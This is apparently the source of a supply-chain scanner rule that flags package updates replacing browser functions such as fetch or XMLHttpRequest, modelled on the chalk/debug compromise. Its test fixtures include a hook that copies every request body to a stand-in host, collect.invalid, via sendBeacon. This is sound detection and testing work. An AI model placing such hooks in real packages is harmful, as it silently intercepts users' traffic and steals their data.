"""This update replaces functions of the browser, as its line of releases never did.

## What it detects
Code that puts something of its own in the place of `fetch`, `XMLHttpRequest`, `WebSocket` or a wallet object of the
page, new to the line at its reach; heavier where what is handed to it goes on to an address that the code names itself.
At first contact it is asked only together with wallets.

## Why it matters
The chalk and debug releases of 2025-09-08 replaced `fetch` and exchanged the addresses of payments in every page that
bundled them. A helper for strings and colours has no reason to stand between a page and its network.

## What it misses
Lines that always instrument the page (monitoring, mocks); replacement through an object that is built at run time.

## References
- The public record of chalk 5.6.1 and debug 4.4.2 (2025-09-08)
- MITRE ATT&CK T1185, Browser Session Hijacking
"""

from collections.abc import Iterator

from lazaretto.core.destination import names_host
from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, decoded, new_chains, package_json, runs_by_itself
from lazaretto.core.update import Update

CARD = Card(
    id="browser-hook-added",
    title="Function of the browser replaced",
    variants={
        "taken-away": "What is handed to a function of the browser goes to an address of the code's own.",
        "autorun": "Code that runs by itself replaces a function of the browser, as no earlier release did.",
        "call": "A function replaces a function of the browser, as no earlier release did.",
        "first-contact": "There is no earlier release; the same file replaces browser functions and touches wallets.",
    },
    group="hooking",
    why="Who stands between a page and its network can change what the user sends.",
    attack=("T1195.002", "T1185"),
)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_HOOK = "const real = window.fetch;\nwindow.fetch = function (...args) { return real.apply(this, args); };\n"
_XHR = "XMLHttpRequest.prototype.send = function (body) { return null; };\n"

EXAMPLES = (
    Example(
        title="the entry file of a helper replaces fetch",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _HOOK + "module.exports = (a) => a;\n"},
        expect="autorun",
        at="index.js:2",
    ),
    Example(
        title="the entry file of a helper replaces the sending of requests",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _XHR + "module.exports = (a) => a;\n"},
        expect="autorun",
        at="index.js:1",
    ),
    Example(
        title="what the page sends is sent to another host as well",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const real = XMLHttpRequest.prototype.send;\n"
            "XMLHttpRequest.prototype.send = function (body) {\n"
            "  navigator.sendBeacon('https://collect.invalid/in', body);\n  return real.apply(this, arguments);\n};\n"
            "module.exports = (a) => a;\n",
        },
        expect="taken-away",
        at="index.js:2",
    ),
    Example(
        title="a monitoring library that always replaced fetch",
        before={"package.json": package_json("1.0.0"), "index.js": _HOOK},
        after={"package.json": package_json("1.0.1"), "index.js": _HOOK + "exports.version = 2;\n"},
    ),
    Example(
        title="a client that calls fetch",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "module.exports = (a) => window.fetch('https://api.invalid/' + a);\n",
        },
    ),
)

_MESSAGES = {
    "taken-away": "replaces a function of the browser, and sends what is handed to it to an address of its own",
    "autorun": "replaces a function of the browser without being called",
    "call": "replaces a function of the browser when it is called",
    "first-contact": "replaces functions of the browser and touches wallets",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant."""
    tally = Tally(CARD)
    for pair in update.pairs:
        gone = set()
        for chain, _ in new_chains(pair, (Kind.BROWSER_HOOK,), (Kind.NET_CONNECT,)) if pair.before else ():
            if chain.data and names_host(chain.sink.fact.value):
                gone.add((chain.source.path, chain.source.fact))
                tally.add("taken-away", pair, chain.source, chain.sink)
                tally.explain("taken-away", decoded(pair, chain.source.path))
        wallets = {placed.path for placed in pair.after.placed if placed.fact.kind is Kind.WALLET_TOUCH}
        for placed in pair.gained(Kind.BROWSER_HOOK):
            variant = "autorun" if runs_by_itself(placed) else "call"
            if pair.before is None:
                if placed.path not in wallets:
                    continue
                variant = "first-contact"
            elif not pair.is_new_kind(placed) or (placed.path, placed.fact) in gone:
                continue
            tally.add(variant, pair, placed)
            tally.explain(variant, decoded(pair, placed.path))
    yield from tally.findings(_MESSAGES)
